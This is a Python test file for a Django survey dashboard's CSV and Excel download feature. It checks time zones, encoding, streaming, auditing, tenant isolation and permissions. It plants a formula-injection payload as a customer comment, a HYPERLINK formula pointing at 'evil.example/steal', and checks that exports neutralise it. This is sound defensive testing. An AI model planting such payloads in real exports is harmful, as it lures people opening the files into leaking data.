"""Downloads of a table as CSV and Excel (``dashboards/exports.py``), through the response
browser's: what a spreadsheet shows row by row, in the tenant's time zone (Acme's is
Europe/Athens) and the member's language, a customer's formula shown as text, the file streamed
as an attachment, one audit entry per download, and refusals that leave no trace.

Carla answered a detractor's 2 with a formula for a comment on a summer night (00:30 in Athens
is 21:30 UTC the day before); Nina a promoter's 10 on a winter morning.
"""

from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO
from zoneinfo import ZoneInfo

import pytest
from django.http import FileResponse, StreamingHttpResponse
from django.urls import reverse
from openpyxl import load_workbook

from dashboards.exports import AUDIT_ACTION, Cells, neutralised
from tenants.models import AuditEntry
from tests.dashboards.exporting import Answers, body_of, csv_rows, export_url, xlsx_rows
from tests.factories import TouchpointFactory
from tests.surveys.survey_fixtures import add_rule, publish_survey

FORMULA = '=HYPERLINK("http://evil.example/steal","Your refund")'
SUMMER_NIGHT = datetime(2026, 7, 1, 21, 30, tzinfo=UTC)  # 2026-07-02 00:30 in Athens (UTC+3)
WINTER_MORNING = datetime(2026, 3, 2, 10, 5, tzinfo=UTC)  # 12:05 in Athens (UTC+2)
RESPONSES = "response-list-export"
LISTS = [
    "complaint-queue-export",
    "response-list-export",
    "interaction-list-export",
    "follow-up-list-export",
]
HEADER = [
    "Response",
    "Answered",
    "Score",
    "Scale",
    "Critic",
    "Comment",
    "Customer",
    "Brand",
    "Touchpoint",
    "Handled by",
    "Follow-up",
    "Occurred",
]


@pytest.fixture
def answer(acme, acme_brand):
    version = publish_survey(acme)
    add_rule(acme, version.survey, delay_minutes=0)
    return Answers(acme, acme_brand, version)


@pytest.fixture
def two(acme, acme_agent, answer):
    """Carla's critic with a formula (Bob served her; a follow-up opened) and Nina's praise."""
    phone = TouchpointFactory(tenant=acme, name="Phone line")
    carla = answer("Carla Critic", 2, at=SUMMER_NIGHT, comment=FORMULA, performer=acme_agent)
    nina = answer("Nina Nice", 10, at=WINTER_MORNING, touchpoint=phone)
    return carla, nina


def audits(tenant) -> list[tuple]:
    return list(
        AuditEntry.objects.for_tenant(tenant)
        .filter(action=AUDIT_ACTION)
        .order_by("pk")
        .values_list("actor__username", "target_type", "target_id", "changes")
    )


# --- what the files hold --------------------------------------------------------------------


def test_a_csv_download_holds_the_rows_in_the_tenants_time_zone_with_formulas_neutralised(
    client_of, acme_admin, acme_agent, two
):
    carla, nina = two

    rows = csv_rows(client_of(acme_admin).get(export_url(RESPONSES)))

    bob = acme_agent.user.get_full_name()
    assert rows == [
        HEADER,
        [
            str(carla.pk),
            "2026-07-02 00:30",
            "2",
            "NPS",
            "Yes",
            "'" + FORMULA,
            "Carla Critic",
            "Acme Motor",
            "",
            bob,
            "Open",
            "2026-07-01 23:30",
        ],
        [
            str(nina.pk),
            "2026-03-02 12:05",
            "10",
            "NPS",
            "No",
            "",
            "Nina Nice",
            "Acme Motor",
            "Phone line",
            "",
            "",
            "2026-03-02 11:05",
        ],
    ]


def test_the_csv_is_utf8_with_a_bom_commas_and_crlf(client_of, acme_admin, answer):
    answer("Νίκος Παπαδόπουλος", 9, at=WINTER_MORNING, comment='Γρήγορα, "ευγενικά"\nΕυχαριστώ')

    body = body_of(client_of(acme_admin).get(export_url(RESPONSES)))

    assert body.startswith(b"\xef\xbb\xbfResponse,Answered,Score,")
    text = body.decode("utf-8-sig")
    assert text.endswith("\r\n")
    # A comma, a quote and a line break inside a field are quoted (RFC 4180).
    assert ',"Γρήγορα, ""ευγενικά""\nΕυχαριστώ",Νίκος Παπαδόπουλος,' in text


def test_an_excel_download_holds_the_same_rows_as_typed_cells(
    client_of, acme_admin, acme_agent, two
):
    carla, nina = two

    rows = xlsx_rows(client_of(acme_admin).get(export_url(RESPONSES, "xlsx")))

    bob = acme_agent.user.get_full_name()
    assert rows == [
        HEADER,
        [
            carla.pk,
            datetime(2026, 7, 2, 0, 30),
            2,
            "NPS",
            "Yes",
            "'" + FORMULA,
            "Carla Critic",
            "Acme Motor",
            None,
            bob,
            "Open",
            datetime(2026, 7, 1, 23, 30),
        ],
        [
            nina.pk,
            datetime(2026, 3, 2, 12, 5),
            10,
            "NPS",
            "No",
            None,
            "Nina Nice",
            "Acme Motor",
            "Phone line",
            None,
            None,
            datetime(2026, 3, 2, 11, 5),
        ],
    ]


def test_an_excel_download_has_no_formula_and_shows_times_as_times(client_of, acme_admin, two):
    response = client_of(acme_admin).get(export_url(RESPONSES, "xlsx"))
    sheet = load_workbook(BytesIO(body_of(response))).active

    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert sheet["F2"].data_type == "s"  # Carla's comment: text
    assert (sheet["B2"].is_date, sheet["B2"].number_format) == (True, "yyyy-mm-dd hh:mm")
    assert sheet["A1"].font.b and sheet.freeze_panes == "A2"
    assert sheet.title == "responses"


def test_headers_and_labels_are_in_the_members_language(client_of, acme_admin, two):
    rows = csv_rows(client_of(acme_admin).get(export_url(RESPONSES), HTTP_ACCEPT_LANGUAGE="el"))

    header, carla, _nina = rows
    assert (header[5], header[7], header[8]) == ("Σχόλιο", "Μάρκα", "Σημείο επαφής")
    assert (carla[4], carla[10]) == ("Ναι", "Σε εκκρεμότητα")  # a critic; the follow-up open


# --- the rule for formulas, and values ------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=1+1", "'=1+1"),
        (FORMULA, "'" + FORMULA),
        ("+30 210 000 1000", "'+30 210 000 1000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Rude on the phone.", "Rude on the phone."),
        (" =1+1", " =1+1"),  # not at the start: a spreadsheet reads it as text
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_a_text_that_starts_like_a_formula_gets_an_apostrophe(text, shown):
    assert neutralised(text) == shown


def test_numbers_stay_numbers_and_times_move_to_the_tenants_zone():
    cells = Cells(ZoneInfo("Europe/Athens"))

    assert [cells.csv(value) for value in (-5, Decimal("-1.5"), 0.25, None, True)] == [
        "-5",
        "-1.5",
        "0.25",
        "",
        "Yes",
    ]
    assert [cells.xlsx(None, value) for value in (-5, Decimal("-1.5"), None, "-5")] == [
        -5,
        Decimal("-1.5"),
        None,
        "'-5",
    ]
    assert cells.csv(SUMMER_NIGHT) == "2026-07-02 00:30"
    assert cells.csv(date(2026, 7, 1)) == "2026-07-01"
    # Excel cannot hold control characters: they are dropped, the rest kept.
    assert cells.xlsx(None, "bad\x0bbyte") == "badbyte"


# --- how it is sent ---------------------------------------------------------------------------


def test_the_csv_streams_as_an_attachment_named_by_tenant_list_and_the_tenants_day(
    client_of, acme_admin, two, clock
):
    clock(SUMMER_NIGHT)  # already 2 July in Athens

    response = client_of(acme_admin).get(export_url(RESPONSES))

    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse) and response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        'attachment; filename="acme-responses-2026-07-02.csv"'
    )
    assert "no-store" in response["Cache-Control"]


def test_the_excel_file_is_sent_in_blocks_with_its_length(client_of, acme_admin, two, clock):
    clock(SUMMER_NIGHT)

    response = client_of(acme_admin).get(export_url(RESPONSES, "xlsx"))

    assert isinstance(response, FileResponse) and response.streaming
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"] == (
        'attachment; filename="acme-responses-2026-07-02.xlsx"'
    )
    body = body_of(response)
    assert int(response["Content-Length"]) == len(body)
    assert body.startswith(b"PK\x03\x04")  # a zip, as every XLSX


# --- audit --------------------------------------------------------------------------------------


def test_every_download_is_audited_once_with_the_filters_that_applied_and_the_row_count(
    client_of, acme, acme_manager, two
):
    client = client_of(acme_manager)

    # A refused filter (a date that does not exist) is not applied, so not recorded.
    csv_rows(client.get(export_url(RESPONSES), {"band": "low", "submitted_from": "31-02-2026"}))
    xlsx_rows(client.get(export_url(RESPONSES, "xlsx")))

    assert audits(acme) == [
        (
            "mario@acme.example",
            "tenants.tenant",
            str(acme.pk),
            {
                "export": [None, "responses"],
                "format": [None, "csv"],
                "filters": [None, {"band": "low"}],
                "rows": [None, 1],
            },
        ),
        (
            "mario@acme.example",
            "tenants.tenant",
            str(acme.pk),
            {
                "export": [None, "responses"],
                "format": [None, "xlsx"],
                "filters": [None, {}],
                "rows": [None, 2],
            },
        ),
    ]


# --- who may download ---------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("name", LISTS)
def test_another_tenants_member_gets_a_404_and_leaves_no_trace(
    client_of, acme, globex_agent, two, name, fmt
):
    client = client_of(globex_agent)

    foreign = client.get(export_url(name, fmt))
    missing = client.get(export_url(name, fmt, tenant_slug="no-such-tenant"))

    # The same page as a workspace that does not exist (the cross-tenant matrix compares the
    # bodies byte for byte).
    assert (foreign.status_code, missing.status_code) == (404, 404)
    assert "<h1>Not found</h1>" in foreign.content.decode()
    assert AuditEntry.objects.for_tenant(acme).filter(action=AUDIT_ACTION).count() == 0


@pytest.mark.parametrize("name", LISTS)
def test_a_performer_may_not_download_and_an_analyst_may(
    client_of, acme, acme_performer, acme_analyst, two, name
):
    refused = client_of(acme_performer).get(export_url(name))
    assert refused.status_code == 403
    assert audits(acme) == []

    allowed = client_of(acme_analyst).get(export_url(name))
    assert allowed.status_code == 200
    body_of(allowed)
    assert [actor for actor, *_rest in audits(acme)] == ["ana@acme.example"]


def test_a_download_is_read_only(client_of, acme_admin, two):
    response = client_of(acme_admin).post(export_url(RESPONSES))

    assert response.status_code == 405


def test_an_excel_file_bigger_than_a_sheet_is_refused_and_not_audited(
    client_of, acme, acme_admin, two, monkeypatch
):
    monkeypatch.setattr("dashboards.exports.XLSX_MAX_ROWS", 1)

    response = client_of(acme_admin).get(export_url(RESPONSES, "xlsx"))

    assert response.status_code == 400
    assert (
        "An Excel sheet holds at most 1 rows and this list has 2: narrow it with the filters, "
        "or download CSV."
    ) in response.content.decode()
    assert audits(acme) == []
    assert client_of(acme_admin).get(export_url(RESPONSES)).status_code == 200  # CSV: no limit


# --- the links on the lists -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("page", "export", "query", "kept"),
    [
        (
            "complaint-queue",
            "complaint-queue-export",
            "?queue=all&sort=oldest&page=1",
            "?queue=all&amp;sort=oldest",
        ),
        ("response-list", "response-list-export", "?band=low&page=1", "?band=low"),
        ("interaction-list", "interaction-list-export", "?decision=invited", "?decision=invited"),
        ("follow-up-list", "follow-up-list-export", "?page=1&status=open", "?status=open"),
    ],
)
def test_each_list_links_its_downloads_with_its_filters_and_without_the_page(
    client_of, acme_admin, page, export, query, kept
):
    html = (
        client_of(acme_admin)
        .get(reverse(page, kwargs={"tenant_slug": "acme"}) + query)
        .content.decode()
    )

    assert f'href="{export_url(export, "csv")}{kept}">Download CSV</a>' in html
    assert f'href="{export_url(export, "xlsx")}{kept}">Download Excel</a>' in html
